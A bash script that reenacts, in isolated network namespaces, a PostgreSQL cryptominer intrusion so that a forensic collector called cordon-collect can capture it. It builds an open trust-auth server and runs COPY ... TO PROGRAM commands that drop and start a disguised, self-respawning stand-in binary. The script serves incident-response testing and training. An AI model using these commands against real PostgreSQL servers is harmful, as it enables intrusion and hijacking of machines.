#!/usr/bin/env bash
# samples/reenact.sh: stage the incident of
# shared/scenario/incident-report-ci-build-agent-miner.txt on this machine,
# with real parts, benignly, and collect it with cordon-collect.
#
#   - two network namespaces joined by a veth pair: the victim's
#     (10.213.0.1, interface cordon-v) and the attacker's (10.213.0.2,
#     cordon-a); nothing leaves them;
#   - in the victim: a PostgreSQL 15 cluster (Debian's pg_createcluster)
#     listening on all interfaces, port 5432, with trust authentication for
#     every address; and a stand-in mining pool on 127.0.0.1:3333;
#   - cordon-collect starts in the victim (in the PostgreSQL server's own
#     namespaces, as a responder on that host would be), capturing lo and
#     the veth, with a --capture-lead it ends with SIGUSR1 once the attack
#     below is staged;
#   - the attacker connects over TCP as postgres, stores a payload in a
#     table and runs COPY ... TO PROGRAM to drop it as /tmp/mysql, then
#     COPY ... TO PROGRAM to start it; it deletes its binary, runs a
#     watchdog ("init") that respawns the miner ("mysql"), which logs in to
#     the pool with a stratum line and burns a little CPU;
#   - the responder's first kill of the miner: the watchdog respawns it;
#   - cordon-collect snapshots, finishes, and everything staged is removed.
#
# No fixed sleeps: every step waits for what it needs (PostgreSQL accepting,
# the capture running, the miner logged in to the pool, the statement in the
# server's log, the respawned miner logged in again), each with a deadline
# past which the script fails saying what it waited for. Names are unique
# per run; one reenactment runs at a time on a machine (a lock), and what a
# crashed earlier run left is removed first.
#
# Needs root, gcc, iproute2 (ip, ss), util-linux (flock, nsenter) and
# Debian's postgresql-15 (pg_createcluster).
# Usage: samples/reenact.sh OUT.cordon [extra cordon-collect flags...]
# It also writes OUT.dropped.sha256: the SHA-256 of the file the attacker dropped.
set -euo pipefail
cd "$(dirname "$0")/.."

OUT=${1:?usage: samples/reenact.sh OUT.cordon [cordon-collect flags]}
shift
[ "$(id -u)" = 0 ] || { echo "reenact: needs root" >&2; exit 2; }

log() { echo "reenact: [${SECONDS}s] $*" >&2; }
die() { echo "reenact: [${SECONDS}s] error: $*" >&2; exit 1; }

# wait_for WHAT SECONDS COMMAND...: run COMMAND every 0.2 s until it
# succeeds; fail the script if it has not within SECONDS.
wait_for() {
  local what=$1 secs=$2 end
  shift 2
  end=$((SECONDS + secs))
  until "$@"; do
    [ "$SECONDS" -lt "$end" ] || die "gave up after ${secs}s waiting for $what"
    sleep 0.2
  done
}

# The stand-in's path (/tmp/mysql) and the pool's port are the incident's:
# two reenactments at once would take each other's processes.
LOCK=/run/cordon-reenact.lock
log "taking $LOCK"
exec 9>"$LOCK"
flock -w 900 9 || die "another reenactment has held $LOCK for 15 minutes"
# Every process that may outlive a crashed run (the server, the pool, the
# collector, the attacker's session) starts with fd 9 closed (9>&-): else it
# would hold the lock, and the next run could never take it to sweep them.

RUN=$$
VNS=cordon-victim-$RUN ANS=cordon-attacker-$RUN
VIP=10.213.0.1 AIP=10.213.0.2
VETH_V=cordon-v VETH_A=cordon-a
PGVER=15 CLUSTER=cordonreenact$RUN PGPORT=5432
PGLOG=/var/log/postgresql/postgresql-$PGVER-$CLUSTER.log
POOL_HEX=0100007F:0D05 # 127.0.0.1:3333 as /proc/net/tcp writes it
WORK=$(mktemp -d /tmp/cordon-reenact.XXXXXX)
chmod 755 "$WORK"

# kill_standins kills every stand-in: the watchdog and miner (the deleted
# /tmp/mysql) and the pools of this and earlier runs, and the collector of
# an earlier run that crashed.
# One find reads every exe link (a readlink per process is hundreds of
# forks, slow on a loaded machine).
kill_standins() {
  local exe pid
  # (find fails on the processes that end while it reads: not an error here)
  { find /proc -mindepth 2 -maxdepth 2 -name exe \( -lname '/tmp/mysql*' -o -lname '/tmp/cordon-reenact.*/standin*' -o -lname '/tmp/cordon-reenact.*/cordon-collect*' \) 2>/dev/null || true; } |
    while read -r exe; do
      pid=${exe#/proc/}
      kill -9 "${pid%/exe}" 2>/dev/null || true
    done
}

# sweep_stale removes what a crashed earlier run left (the lock is held:
# nothing of the kind belongs to a live run).
sweep_stale() {
  local c ns d
  kill_standins
  for c in $(pg_lsclusters -h 2>/dev/null | awk -v v="$PGVER" '$1 == v && $2 ~ /^cordonreenact/ {print $2}'); do
    log "removing the stale cluster $c"
    pg_dropcluster --stop "$PGVER" "$c" >/dev/null 2>&1 || true
    rm -f "/var/log/postgresql/postgresql-$PGVER-$c.log"
  done
  for ns in $(ip netns list | awk '$1 ~ /^cordon-(victim|attacker)/ {print $1}'); do
    log "removing the stale network namespace $ns"
    ip netns del "$ns" 2>/dev/null || true
  done
  rm -f /tmp/mysql
  for d in /tmp/cordon-reenact.*; do
    [ "$d" = "$WORK" ] || rm -rf "$d"
  done
}

cleanup() {
  set +e
  [ -n "${COLLECT_PID:-}" ] && kill "$COLLECT_PID" 2>/dev/null
  kill_standins
  [ -n "${ATTACK_PID:-}" ] && kill "$ATTACK_PID" 2>/dev/null
  pg_dropcluster --stop "$PGVER" "$CLUSTER" >/dev/null 2>&1
  rm -f "$PGLOG"
  ip netns del "$VNS" 2>/dev/null
  ip netns del "$ANS" 2>/dev/null
  ip link del "crv$RUN" 2>/dev/null
  rm -f /tmp/mysql
  rm -rf "$WORK"
}
trap cleanup EXIT
trap "exit 143" TERM INT HUP # the cleanup runs on these too
sweep_stale

log "building the stand-in and the collector"
gcc -O2 -o "$WORK/standin" samples/standin/standin.c
CGO_ENABLED=0 go build -o "$WORK/cordon-collect" ./cmd/cordon-collect
sha256sum "$WORK/standin" | cut -d' ' -f1 > "$OUT.dropped.sha256"

log "network namespaces $VNS ($VIP) and $ANS ($AIP)"
ip netns add "$VNS"
ip netns add "$ANS"
# Unique names while the pair is in the host's namespace, the sample's
# names once each end is in its own.
ip link add "crv$RUN" type veth peer name "cra$RUN"
ip link set "crv$RUN" netns "$VNS"
ip link set "cra$RUN" netns "$ANS"
ip -n "$VNS" link set "crv$RUN" name "$VETH_V"
ip -n "$ANS" link set "cra$RUN" name "$VETH_A"
ip -n "$VNS" addr add "$VIP/24" dev "$VETH_V"
ip -n "$ANS" addr add "$AIP/24" dev "$VETH_A"
for ns in "$VNS" "$ANS"; do ip -n "$ns" link set lo up; done
ip -n "$VNS" link set "$VETH_V" up
ip -n "$ANS" link set "$VETH_A" up
VNS_INODE=$(stat -L -c %i "/run/netns/$VNS")

log "PostgreSQL $PGVER cluster $CLUSTER on *:$PGPORT with trust for every address"
pg_createcluster "$PGVER" "$CLUSTER" -p "$PGPORT" -- --auth=trust >/dev/null
mkdir -m 2775 "$WORK/pgsocket"
chown postgres:postgres "$WORK/pgsocket"
conf=/etc/postgresql/$PGVER/$CLUSTER
cat >> "$conf/postgresql.conf" <<CONF
# as the CI pipeline's container had it (docker run -p 5432:5432 -e POSTGRES_HOST_AUTH_METHOD=trust)
listen_addresses = '*'
log_connections = on
log_disconnections = on
log_statement = 'all'
# this run's own socket directory: no clash with another cluster on $PGPORT
unix_socket_directories = '$WORK/pgsocket'
CONF
echo "host all all all trust" >> "$conf/pg_hba.conf"
ip netns exec "$VNS" pg_ctlcluster --skip-systemctl-redirect "$PGVER" "$CLUSTER" start 9>&-
PGPID=$(head -n1 "/var/lib/postgresql/$PGVER/$CLUSTER/postmaster.pid")
[ -d "/proc/$PGPID" ] || die "the postmaster ($PGPID in postmaster.pid) is not running"
wait_for "PostgreSQL to accept connections on $VIP:$PGPORT" 60 \
  ip netns exec "$ANS" pg_isready -q -t 5 -h "$VIP" -p "$PGPORT"

# The pool and the collector run in the postmaster's network and mount
# namespaces (ip netns exec makes a mount namespace per command): the
# collector then sees the server's files as the server does.
in_victim() { nsenter -t "$PGPID" -n -m -- "$@"; }

log "stand-in pool on 127.0.0.1:3333 in $VNS"
nsenter -t "$PGPID" -n -m -- env CORDON_STANDIN_LIFETIME=600 "$WORK/standin" pool 3333 9>&- &
disown $! # its end by kill -9 at cleanup is expected: no job report

# --capture-lead is only an upper bound: SIGUSR1 ends it once the attack
# and the respawn are staged. --capture-for counts from the capture's start
# and comes forward with the lead, so the capture goes on 10 s past the
# snapshot's start.
LEAD=480 # more than the waits below add up to (3 x 120 s)
log "cordon-collect starts, capturing lo and $VETH_V (lead up to ${LEAD}s)"
nsenter -t "$PGPID" -n -m -- "$WORK/cordon-collect" -o "$OUT" --force \
  --case CORDON-SAMPLE-REENACT --examiner "samples/reenact.sh" \
  --note "benign reenactment of shared/scenario/incident-report-ci-build-agent-miner.txt" \
  --capture lo --capture "$VETH_V" --capture-lead "${LEAD}s" --capture-for "$((LEAD + 10))s" \
  "$@" 9>&- 2> >(tee "$WORK/collect.err" >&2 9>&-) &
COLLECT_PID=$!

collector_alive() { kill -0 "$COLLECT_PID" 2>/dev/null || die "cordon-collect ended early: $(tail -n 5 "$WORK/collect.err")"; }
capture_running() {
  collector_alive
  grep -q "^cordon-collect: capture running on lo, $VETH_V; lead up to" "$WORK/collect.err"
}
wait_for "cordon-collect to say its capture runs on lo and $VETH_V" 180 capture_running
[ "$(readlink "/proc/$COLLECT_PID/exe")" = "$WORK/cordon-collect" ] ||
  die "PID $COLLECT_PID is $(readlink "/proc/$COLLECT_PID/exe"), not the collector (nsenter forked?)"

log "attacker $AIP connects to $VIP:$PGPORT and drops /tmp/mysql through COPY ... TO PROGRAM"
payload=$(base64 -w0 "$WORK/standin")
export PGCONNECT_TIMEOUT=30
ip netns exec "$ANS" psql -X -q -h "$VIP" -p "$PGPORT" -U postgres -d postgres -v ON_ERROR_STOP=1 >/dev/null 9>&- <<SQL
SELECT version();
CREATE TABLE IF NOT EXISTS cordon_payload(b text);
INSERT INTO cordon_payload VALUES ('$payload');
COPY cordon_payload TO PROGRAM 'base64 -d > /tmp/mysql && chmod 755 /tmp/mysql';
DROP TABLE cordon_payload;
SQL
# The second session starts the dropped binary; COPY waits for the program,
# so the watchdog stays a child of its PostgreSQL backend, as in the incident.
ip netns exec "$ANS" psql -X -q -h "$VIP" -p "$PGPORT" -U postgres -d postgres \
  -c "COPY (SELECT 1) TO PROGRAM 'exec /tmp/mysql >/dev/null 2>&1'" >/dev/null 2>&1 9>&- &
ATTACK_PID=$!

# miners prints the PIDs of the stand-in's miners of this run: the deleted
# /tmp/mysql named mysql, in the victim's network namespace.
miners() {
  local exe pid comm
  { find /proc -mindepth 2 -maxdepth 2 -name exe -lname '/tmp/mysql (deleted)' 2>/dev/null || true; } |
    while read -r exe; do
      pid=${exe#/proc/}; pid=${pid%/exe}
      read -r comm 2>/dev/null <"/proc/$pid/comm" || continue
      [ "$comm" = mysql ] || continue
      [ "$(stat -L -c %i "/proc/$pid/ns/net" 2>/dev/null)" = "$VNS_INODE" ] || continue
      echo "$pid"
    done
}

# pool_login PID: the miner PID holds an established connection to the
# pool (its socket in /proc/PID/net/tcp) and the pool has answered its
# login (bytes received on it, as ss reads them from the kernel).
pool_login() {
  local pid=$1 inode inodes=""
  for fd in /proc/"$pid"/fd/*; do
    inode=$(readlink "$fd" 2>/dev/null) || continue
    case "$inode" in "socket:["*"]") inodes="$inodes ${inode//[^0-9]/}" ;; esac
  done
  [ -n "$inodes" ] || return 1
  # local, remote, state 01 (ESTABLISHED) ... inode (field 10)
  awk -v r="$POOL_HEX" -v want="$inodes" 'BEGIN { n = split(want, w, " "); for (i = 1; i <= n; i++) ok[w[i]] = 1 }
    $3 == r && $4 == "01" && ($10 in ok) { found = 1 } END { exit !found }' "/proc/$pid/net/tcp" 2>/dev/null || return 1
  in_victim ss -HOtnpi state established dst 127.0.0.1:3333 2>/dev/null |
    grep "pid=$pid," | grep -Eq 'bytes_received:[1-9]'
}

# miner_logged_in [NOT_PID]: a miner of this run other than NOT_PID has
# logged in to the pool; its PID is in $MINER.
miner_logged_in() {
  local p
  collector_alive
  for p in $(miners); do
    [ "$p" != "${1:-}" ] || continue
    if pool_login "$p"; then MINER=$p; return 0; fi
  done
  return 1
}

has_copy_statement() { grep -q "TO PROGRAM 'exec /tmp/mysql" "$PGLOG" 2>/dev/null; }
wait_for "the COPY ... TO PROGRAM 'exec /tmp/mysql' statement in $PGLOG" 120 has_copy_statement
MINER=""
wait_for "the miner (/tmp/mysql (deleted), comm mysql) to log in to the pool 127.0.0.1:3333" 120 miner_logged_in
first=$MINER
log "the miner PID $first is logged in to the pool"

log "the responder's first kill: miner PID $first (the watchdog respawns it)"
kill -9 "$first"
wait_for "the watchdog to respawn the miner and the new one to log in to the pool" 120 miner_logged_in "$first"
log "the watchdog respawned the miner as PID $MINER, logged in to the pool again"

log "SIGUSR1: cordon-collect ends its lead and snapshots"
kill -USR1 "$COLLECT_PID"
set +e
wait "$COLLECT_PID"
rc=$?
set -e
COLLECT_PID=""
log "cordon-collect exited $rc; bundle $OUT"
[ "$rc" -le 1 ] || exit "$rc"
# The capture's status line (absent with --quiet) says how the lead ended.
if grep -q "^cordon-collect: capture " "$WORK/collect.err" &&
  ! grep -q "^cordon-collect: capture .*the lead ended on SIGUSR1" "$WORK/collect.err"; then
  die "the capture lead did not end on SIGUSR1 (it elapsed first?): the capture may miss the attack"
fi
